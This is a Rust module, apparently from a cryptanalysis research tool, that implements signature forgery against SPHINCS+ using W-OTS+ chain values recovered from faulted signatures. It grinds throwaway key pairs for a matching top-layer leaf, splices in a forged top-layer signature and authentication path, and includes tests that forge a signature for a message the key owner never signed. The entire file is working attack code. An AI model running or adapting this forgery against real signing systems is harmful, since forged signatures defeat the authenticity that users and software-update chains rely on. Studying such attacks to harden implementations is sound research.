//! Forging SPHINCS+ signatures from recovered chain values.
//!
//! A forgery for `M'` is assembled from an honest-looking signature of `M'`
//! made under a throwaway key pair. Its randomizer `R` is kept only if, under
//! the target public key, `R` selects a top-layer leaf whose chains have been
//! recovered. Verification under the target key then recomputes a fixed
//! message for that leaf from the candidate's lower layers; if its chain
//! lengths are all reachable, the top-layer W-OTS+ signature and the genuine
//! authentication path of the leaf are spliced in.

use crate::attack::recovery::{ChainRecovery, DigitRow};
use crate::error::{Error, Result};
use crate::sphincs_plus::SphincsPlusSignature;
use log::{debug, info, warn};

/// A candidate signature of the forgery target and what its top layer needs.
#[derive(Clone, Debug)]
pub struct ForgeCandidate {
    pub signature: SphincsPlusSignature,
    /// Top-layer leaf selected by the candidate's randomizer.
    pub leaf: u32,
    /// Chain lengths the top-layer W-OTS+ signature must have.
    pub required: Vec<u32>,
}

/// A successful forgery.
#[derive(Clone, Debug)]
pub struct Forgery {
    pub message: Vec<u8>,
    pub signature: SphincsPlusSignature,
    /// Candidates tried, the successful one included.
    pub attempts: usize,
}

pub struct Forger<'a> {
    recovery: &'a ChainRecovery,
    max_attempts: usize,
}

impl<'a> Forger<'a> {
    pub fn new(recovery: &'a ChainRecovery, max_attempts: usize) -> Self {
        Self {
            recovery,
            max_attempts,
        }
    }

    /// Signs `message` under one fresh key pair. Returns a candidate if the
    /// randomizer hits a tracked leaf, restricted to `leaf` if given.
    pub fn try_candidate(&self, message: &[u8], leaf: Option<u32>) -> Result<Option<ForgeCandidate>> {
        let sphincs = self.recovery.sphincs();
        let pk = self.recovery.public_key();

        let (_, throwaway_sk) = sphincs.keygen()?;
        let signature = sphincs.sign(message, &throwaway_sk)?;

        let hit = sphincs.top_leaf_index(&signature.r, pk, message);
        if leaf.is_some_and(|target| target != hit) || self.recovery.leaf(hit).is_none() {
            return Ok(None);
        }

        let view = sphincs.verify_get_msg_sig_tree(message, &signature, pk)?;
        let required = self.recovery.wots().chain_lengths(&view.msg);
        Ok(Some(ForgeCandidate {
            signature,
            leaf: hit,
            required,
        }))
    }

    /// Grinds throwaway key pairs until a candidate is found.
    pub fn find_candidate(&self, message: &[u8], leaf: Option<u32>) -> Result<ForgeCandidate> {
        for attempt in 1..=self.max_attempts {
            if let Some(candidate) = self.try_candidate(message, leaf)? {
                debug!("candidate for top leaf {} after {attempt} key pairs", candidate.leaf);
                return Ok(candidate);
            }
        }
        Err(Error::ForgeryNotFound(self.max_attempts))
    }

    /// Whether the recovered chains of the candidate's leaf reach every
    /// required position.
    pub fn is_forgeable(&self, candidate: &ForgeCandidate) -> bool {
        self.recovery
            .leaf(candidate.leaf)
            .is_some_and(|state| state.can_sign(&candidate.required))
    }

    /// Splices the forged top layer into the candidate.
    pub fn splice(&self, candidate: &ForgeCandidate) -> Option<SphincsPlusSignature> {
        let state = self.recovery.leaf(candidate.leaf)?;
        let wots_sig = state.forge_wots(self.recovery.wots(), &candidate.required)?;

        let mut signature = candidate.signature.clone();
        let top = self.recovery.params().d - 1;
        let layer = signature.sig_ht.layer_mut(top);
        layer.wots_sig = wots_sig;
        layer.auth = state.auth().to_vec();
        Some(signature)
    }

    /// Searches for a verifying signature of `message` under the attacked
    /// public key, giving up after `max_attempts` throwaway key pairs.
    pub fn forge(&self, message: &[u8], leaf: Option<u32>) -> Result<Forgery> {
        let sphincs = self.recovery.sphincs();
        for attempt in 1..=self.max_attempts {
            let Some(candidate) = self.try_candidate(message, leaf)? else {
                continue;
            };
            let Some(state) = self.recovery.leaf(candidate.leaf) else {
                continue;
            };
            if !state.can_sign(&candidate.required) {
                debug!(
                    "message not signable with the recovered chains of leaf {}\n{}",
                    candidate.leaf,
                    DigitRow {
                        known: state.hash_count(),
                        required: Some(&candidate.required),
                    }
                );
                continue;
            }

            let Some(signature) = self.splice(&candidate) else {
                continue;
            };
            if sphincs.verify(&signature, message, self.recovery.public_key()) {
                info!("forged signature with top leaf {} after {attempt} attempts", candidate.leaf);
                return Ok(Forgery {
                    message: message.to_vec(),
                    signature,
                    attempts: attempt,
                });
            }
            warn!("spliced signature for leaf {} failed to verify", candidate.leaf);
        }
        Err(Error::ForgeryNotFound(self.max_attempts))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::oracle::{LocalOracle, SigningOracle};
    use crate::params::{HashVariant, ParamSet};

    fn recovered(faults: usize) -> (ChainRecovery, u32) {
        let params = ParamSet::Test.params(HashVariant::Simple).with_randomize(false);
        let mut oracle = LocalOracle::new(params).unwrap();
        let mut recovery = ChainRecovery::new(params, oracle.public_key().clone());
        let message = b"known message".to_vec();
        let good = oracle.sign(&message).unwrap();
        let (leaf, _) = recovery.record_honest(&message, &good).unwrap();
        for _ in 0..faults {
            let bad = oracle.sign_faulty(&message).unwrap();
            recovery.observe_faulty(&message, &bad).unwrap();
        }
        (recovery, leaf)
    }

    #[test]
    fn test_forgery_end_to_end() {
        let (recovery, leaf) = recovered(300);
        let forger = Forger::new(&recovery, 400);

        let forgery = forger.forge(b"never signed by the key owner", Some(leaf)).unwrap();
        assert!(recovery.sphincs().verify(
            &forgery.signature,
            b"never signed by the key owner",
            recovery.public_key()
        ));
        assert!(forgery.attempts <= 400);
        assert_eq!(
            recovery
                .sphincs()
                .top_leaf_index(&forgery.signature.r, recovery.public_key(), &forgery.message),
            leaf
        );
    }

    #[test]
    fn test_candidate_hits_tracked_leaf() {
        let (recovery, leaf) = recovered(0);
        let forger = Forger::new(&recovery, 200);
        let candidate = forger.find_candidate(b"target", None).unwrap();
        assert_eq!(candidate.leaf, leaf);
        assert_eq!(candidate.required.len(), recovery.params().len);
    }

    #[test]
    fn test_unrecovered_chains_are_not_forgeable() {
        let (recovery, leaf) = recovered(0);
        let forger = Forger::new(&recovery, 200);
        let mut candidate = forger.find_candidate(b"target", Some(leaf)).unwrap();

        // One step before the honest position is never reachable.
        let state = recovery.leaf(leaf).unwrap();
        let block = state.hash_count().iter().position(|&c| c > 0).unwrap();
        candidate.required = state.hash_count().to_vec();
        assert!(forger.is_forgeable(&candidate));
        candidate.required[block] -= 1;
        assert!(!forger.is_forgeable(&candidate));
        assert!(forger.splice(&candidate).is_none());
    }

    #[test]
    fn test_forge_gives_up() {
        let (recovery, _) = recovered(0);
        let forger = Forger::new(&recovery, 3);
        // No top leaf has that index.
        assert_eq!(
            forger.forge(b"target", Some(u32::MAX)).unwrap_err(),
            Error::ForgeryNotFound(3)
        );
    }
}
